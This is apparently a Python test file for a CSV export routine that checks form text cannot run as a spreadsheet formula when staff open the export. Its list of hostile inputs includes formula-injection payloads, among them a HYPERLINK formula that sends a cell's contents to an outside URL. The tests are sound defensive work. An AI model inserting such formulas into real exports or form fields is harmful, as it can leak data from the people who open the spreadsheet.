"""X02: text from a form must not run when staff open an export."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from central.ops.table import csv_lines, safe_cell

NASTY = [
    "=2+3", '=HYPERLINK("http://example.invalid/?q="&B2,"y")', "+20", "-20", "@MAX(1)", "\t=2+3", "\r=2+3",
    "   =2+3", "＝2+3", "＠MAX(1)", "\u3000＋5", " \t-3", "\n=1",
]  # fmt: skip
ORDINARY = ['乙"甲', "乙\n甲", "乙,甲", "普通", "", "10", "3.5", "2026-11-25T08:00:00Z", "printer.paper_out"]
DIGITS = ["110199198801019990", "0042", "12345678901234567", "12E45"]
FORBIDDEN = "=+-@\t\r"


def parsed(rows: list[list[str]]) -> list[list[str]]:
    text = "".join(csv_lines(["one", "two"], rows))
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:], newline="")))[1:]


@pytest.mark.parametrize("text", NASTY)
def test_no_cell_begins_like_a_formula_and_the_text_stays_readable(text: str) -> None:
    ((cell, other),) = parsed([[text, "x"]])
    assert cell == f"'{text}"
    assert other == "x"


@pytest.mark.parametrize("text", ORDINARY)
def test_ordinary_text_is_not_touched(text: str) -> None:
    assert parsed([[text, "x"]]) == [[text, "x"]]


@pytest.mark.parametrize("text", DIGITS)
def test_long_numbers_and_leading_zeros_stay_text(text: str) -> None:
    assert safe_cell(text) == f"'{text}"


@given(st.lists(st.lists(st.text(), min_size=2, max_size=2), max_size=5))
def test_rows_and_columns_survive_and_nothing_runs(rows: list[list[str]]) -> None:
    back = parsed(rows)
    assert [len(row) for row in back] == [2] * len(rows)
    for row, original in zip(back, rows, strict=True):
        for cell, text in zip(row, original, strict=True):
            assert cell.removeprefix("'") == text.removeprefix("'") or cell == text
            assert cell[:1] not in FORBIDDEN or not cell
            assert cell.lstrip(" ")[:1] not in FORBIDDEN or not cell.strip(" ")
